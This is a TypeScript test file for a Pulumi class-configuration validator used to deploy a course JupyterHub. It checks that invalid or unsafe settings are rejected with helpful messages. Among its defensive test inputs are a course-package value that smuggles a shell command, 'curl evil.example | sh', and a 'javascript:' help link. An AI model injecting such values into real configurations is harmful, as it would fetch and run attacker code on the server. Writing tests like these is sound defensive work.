import assert from "node:assert/strict";
import { test } from "node:test";
import { ClassConfigError, LETS_ENCRYPT, LETS_ENCRYPT_STAGING, parseClassConfig, SECRET_IS_SET } from "../lib/classConfig";

/** A valid GitHub class, as Pulumi hands it over: every value a string, lists as JSON text. */
const github: Record<string, unknown> = {
    dnsZone: "example.edu",
    subdomain: "engr101",
    letsEncryptEmail: "prof@example.edu",
    authProvider: "github",
    oauthClientId: "Iv1.0123456789abcdef",
    oauthClientSecret: SECRET_IS_SET,
    allowedUsers: '["ada-lovelace"]',
};

function problemsOf(raw: Record<string, unknown>) {
    try {
        parseClassConfig(raw);
    } catch (err) {
        assert.ok(err instanceof ClassConfigError, String(err));
        return err.problems;
    }
    return assert.fail("expected a ClassConfigError");
}

const without = (raw: Record<string, unknown>, ...keys: string[]) =>
    Object.fromEntries(Object.entries(raw).filter(([k]) => !keys.includes(k)));

interface BadCase {
    readonly what: string;
    readonly raw: Record<string, unknown>;
    readonly key: string;
    readonly says: string;
}

const oidc = { ...github, authProvider: "oidc", allowedUsers: '["ada@example.edu"]' };

const badCases: BadCase[] = [
    { what: "no zone", raw: without(github, "dnsZone"), key: "dnsZone", says: "dnsZone: got nothing; is required: The Cloudflare zone" },
    { what: "neither subdomain nor hostname", raw: without(github, "subdomain"), key: "subdomain", says: "expected subdomain or hostname to be set" },
    { what: "a subdomain that is not one label", raw: { ...github, subdomain: "engr_101" }, key: "subdomain", says: "expected one DNS label" },
    { what: "a hostname outside the zone", raw: { ...without(github, "subdomain"), hostname: "engr101.example.org" }, key: "hostname", says: "expected a name inside the zone example.edu" },
    { what: "a subdomain that contradicts the hostname", raw: { ...github, hostname: "cs50.example.edu" }, key: "subdomain", says: "expected subdomain to agree with hostname cs50.example.edu" },
    { what: "an invalid e-mail", raw: { ...github, letsEncryptEmail: "prof-at-example.edu" }, key: "letsEncryptEmail", says: "expected an e-mail address for Let's Encrypt notices. Fix: pulumi config set letsEncryptEmail instructor@example.edu" },
    { what: "root as admin user", raw: { ...github, adminUser: "root" }, key: "adminUser", says: 'adminUser: got "root"; expected a name that is not root, a system account' },
    { what: "an existing system account as admin user", raw: { ...github, adminUser: "www-data" }, key: "adminUser", says: "expected a name that is not root, a system account" },
    { what: "a student account as admin user", raw: { ...github, adminUser: "jupyter-ada" }, key: "adminUser", says: "or a student account (jupyter-…)" },
    { what: "an admin user with capitals", raw: { ...github, adminUser: "Prof" }, key: "adminUser", says: "expected a Linux user name" },
    { what: "a roster that lets nobody in", raw: without(github, "allowedUsers"), key: "allowedUsers", says: "otherwise nobody can log in" },
    { what: "an unknown auth provider", raw: { ...github, authProvider: "facebook" }, key: "authProvider", says: "expected github, google or oidc" },
    { what: "GitHub without a client id", raw: without(github, "oauthClientId"), key: "oauthClientId", says: "oauthClientId: got nothing; is required" },
    { what: "no client secret", raw: without(github, "oauthClientSecret"), key: "oauthClientSecret", says: "Fix: pulumi config set --secret oauthClientSecret -- <client secret>" },
    { what: "Google with GitHub organizations", raw: { ...github, authProvider: "google", githubOrganizations: '["engr101"]' }, key: "githubOrganizations", says: "expected no GitHub organizations unless authProvider is github" },
    { what: "GitHub with Google hosted domains", raw: { ...github, googleHostedDomains: '["example.edu"]' }, key: "googleHostedDomains", says: "expected no hosted domains unless authProvider is google" },
    { what: "OIDC without its token endpoint", raw: { ...oidc, oidcAuthorizeUrl: "https://login.example.edu/authorize", oidcUserdataUrl: "https://login.example.edu/userinfo" }, key: "oidcTokenUrl", says: "is required when authProvider is oidc" },
    { what: "an ftp course repository", raw: { ...github, courseRepoUrl: "ftp://example.edu/course.git" }, key: "courseRepoUrl", says: "expected an https://, http://, ssh:// or git@host:path URL" },
    { what: "credentials in the course repository URL", raw: { ...github, courseRepoUrl: "https://ada:hunter2@github.com/example/course.git" }, key: "courseRepoUrl", says: "with no credentials in it (use courseRepoToken)" },
    { what: "a token with an ssh course repository", raw: { ...github, courseRepoUrl: "git@github.com:example/course.git", courseRepoToken: SECRET_IS_SET }, key: "courseRepoToken", says: "courseRepoToken: got a secret value; expected courseRepoUrl to be an https:// URL" },
    { what: "an invalid CIDR", raw: { ...github, sshAllowedCidrs: '["203.0.113.300/32"]' }, key: "sshAllowedCidrs", says: "sshAllowedCidrs[0] expected CIDRs such as 203.0.113.4/32 or 2001:db8::/48. Fix: pulumi config set --path 'sshAllowedCidrs[0]' '203.0.113.4/32'" },
    { what: "no SSH source at all", raw: { ...github, sshAllowedCidrs: "[]" }, key: "sshAllowedCidrs", says: "expected at least 1 item" },
    { what: "an unparseable memory limit", raw: { ...github, memoryLimit: "2GB" }, key: "memoryLimit", says: 'memoryLimit: got "2GB"; expected a size such as 512M or 2G' },
    { what: "a CPU limit that is not a number", raw: { ...github, cpuLimit: "two" }, key: "cpuLimit", says: "expected a number" },
    { what: "a colour that is not a colour", raw: { ...github, loginPrimaryColor: "crimson" }, key: "loginPrimaryColor", says: "expected a colour such as #1f6feb" },
    { what: "a javascript: help link", raw: { ...github, loginHelpLinks: '[{"text":"Help","url":"javascript:alert(1)"}]' }, key: "loginHelpLinks", says: "loginHelpLinks[0].url expected an http(s) URL for help links" },
    { what: "a plain-http logo", raw: { ...github, loginLogoUrl: "http://example.edu/logo.png" }, key: "loginLogoUrl", says: "expected an https URL for the logo" },
    { what: "a negative idle timeout", raw: { ...github, idleTimeoutSeconds: "-5" }, key: "idleTimeoutSeconds", says: "expected 0 (never cull) or more seconds" },
    { what: "a fractional volume size", raw: { ...github, volumeSizeGb: "1.5" }, key: "volumeSizeGb", says: "expected a whole number of GiB" },
    { what: "yes for a boolean", raw: { ...github, protectVolume: "yes" }, key: "protectVolume", says: "expected true or false" },
    { what: "an unsupported image", raw: { ...github, image: "centos-stream-9-x64" }, key: "image", says: "expected ubuntu-24-04-x64 or debian-12-x64" },
    { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
    { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
    { what: "a plain-http ACME directory", raw: { ...github, acmeDirectoryUrl: "http://acme.example.edu/directory" }, key: "acmeDirectoryUrl", says: "expected an https URL for the ACME directory" },
    { what: "a mistyped key", raw: { ...github, allowedUser: '["ada"]' }, key: "allowedUser", says: "allowedUser: is not a setting of this stack (did you mean allowedUsers?). Fix: pulumi config rm allowedUser" },
];

for (const bad of badCases) {
    test(`rejects ${bad.what}, naming ${bad.key}`, () => {
        const problems = problemsOf(bad.raw);
        assert.deepEqual(problems.map((p) => p.key), [bad.key]);
        assert.ok(problems[0].message.includes(bad.says), `${problems[0].message}\n  does not include\n${bad.says}`);
    });
}

test("OIDC without any endpoint names each missing endpoint", () => {
    assert.deepEqual(problemsOf(oidc).map((p) => p.key), ["oidcAuthorizeUrl", "oidcTokenUrl", "oidcUserdataUrl"]);
});

test("every problem is reported at once, one line each", () => {
    const raw = { ...without(github, "letsEncryptEmail"), memoryLimit: "lots", adminUser: "root", colour: "#fff" };
    let error: unknown;
    try {
        parseClassConfig(raw);
    } catch (err) {
        error = err;
    }
    assert.ok(error instanceof ClassConfigError);
    assert.deepEqual(error.problems.map((p) => p.key).sort(), ["adminUser", "colour", "letsEncryptEmail", "memoryLimit"]);
    const lines = error.message.split("\n");
    assert.equal(lines[0], "The class config has 4 problems:");
    assert.equal(lines.filter((l) => l.startsWith("  - ")).length, 4);
});

test("a secret's value never appears in a message, only that it is set", () => {
    const planted = "planted-secret-value-7f3a";
    const problems = problemsOf({ ...github, courseRepoUrl: "ssh://git@example.edu/course.git", courseRepoToken: planted });
    assert.equal(problems[0].key, "courseRepoToken");
    assert.ok(!problems[0].message.includes(planted));
    assert.ok(problems[0].message.includes("got a secret value"));
});

test("a minimal GitHub class gets the documented defaults", () => {
    const cfg = parseClassConfig(github);
    assert.equal(cfg.hostname, "engr101.example.edu");
    assert.equal(cfg.dnsRecordName, "engr101");
    assert.equal(cfg.dnsProxied, false);
    assert.deepEqual(cfg.droplet, { region: "nyc3", size: "s-2vcpu-4gb", image: "ubuntu-24-04-x64", volumeSizeGb: 20, protectVolume: true });
    assert.deepEqual(cfg.admin, { user: "instructor", sshKeys: [] });
    assert.deepEqual(cfg.ssh, { allowedCidrs: ["0.0.0.0/0", "::/0"], hasPrivateKey: false });
    assert.deepEqual(cfg.tls, { email: "prof@example.edu", acmeDirectoryUrl: LETS_ENCRYPT });
    assert.deepEqual(cfg.limits, { memory: "2G", cpu: 1, idleTimeoutSeconds: 3600, concurrentSpawnLimit: 0 });
    assert.equal(cfg.course, undefined);
    assert.equal(cfg.auth.oidc, undefined);
});

test("Pulumi's string values become typed values", () => {
    const cfg = parseClassConfig({
        ...github,
        volumeSizeGb: "50", protectVolume: "false", cpuLimit: "0.5", idleTimeoutSeconds: "0",
        letsEncryptStaging: "true", dnsProxied: "true", sshAllowedCidrs: '["203.0.113.4/32","2001:db8::/48"]',
    });
    assert.equal(cfg.droplet.volumeSizeGb, 50);
    assert.equal(cfg.droplet.protectVolume, false);
    assert.equal(cfg.limits.cpu, 0.5);
    assert.equal(cfg.limits.idleTimeoutSeconds, 0);
    assert.equal(cfg.tls.acmeDirectoryUrl, LETS_ENCRYPT_STAGING);
    assert.equal(cfg.dnsProxied, true);
    assert.deepEqual(cfg.ssh.allowedCidrs, ["203.0.113.4/32", "2001:db8::/48"]);
});

test("a deeper hostname, upper case and duplicate names are normalized", () => {
    const cfg = parseClassConfig({
        ...without(github, "subdomain"),
        dnsZone: "Example.EDU", hostname: "Hub.ENGR101.example.edu",
        allowedUsers: '["Ada-Lovelace","ada-lovelace","alan"]', adminUsers: '["Prof"]',
    });
    assert.equal(cfg.hostname, "hub.engr101.example.edu");
    assert.equal(cfg.dnsRecordName, "hub.engr101");
    assert.deepEqual(cfg.auth.allowedUsers, ["ada-lovelace", "alan"]);
    assert.deepEqual(cfg.auth.adminUsers, ["prof"]);
});

test("an explicit ACME directory wins over letsEncryptStaging", () => {
    const cfg = parseClassConfig({ ...github, letsEncryptStaging: "true", acmeDirectoryUrl: "https://127.0.0.1:14000/dir" });
    assert.equal(cfg.tls.acmeDirectoryUrl, "https://127.0.0.1:14000/dir");
});

test("Google with a hosted domain needs no student list", () => {
    const cfg = parseClassConfig({ ...without(github, "allowedUsers"), authProvider: "google", googleHostedDomains: '["Example.edu"]' });
    assert.deepEqual(cfg.auth.googleHostedDomains, ["example.edu"]);
    assert.deepEqual(cfg.auth.allowedUsers, []);
});

test("a complete OIDC class with a private course repository", () => {
    const cfg = parseClassConfig({
        ...oidc,
        oidcAuthorizeUrl: "https://login.example.edu/authorize",
        oidcTokenUrl: "https://login.example.edu/token",
        oidcUserdataUrl: "https://login.example.edu/userinfo",
        oidcUsernameClaim: "preferred_username",
        courseRepoUrl: "https://git.example.edu/engr101/notebooks.git",
        courseRepoToken: SECRET_IS_SET,
        courseDirectory: "engr101/notebooks",
        sshPrivateKey: SECRET_IS_SET,
    });
    assert.deepEqual(cfg.auth.oidc, {
        authorizeUrl: "https://login.example.edu/authorize",
        tokenUrl: "https://login.example.edu/token",
        userdataUrl: "https://login.example.edu/userinfo",
        usernameClaim: "preferred_username",
        scopes: ["openid", "email", "profile"],
    });
    assert.deepEqual(cfg.course, {
        repositoryUrl: "https://git.example.edu/engr101/notebooks.git", branch: "main", directory: "engr101/notebooks", hasToken: true,
    });
    assert.equal(cfg.ssh.hasPrivateKey, true);
});
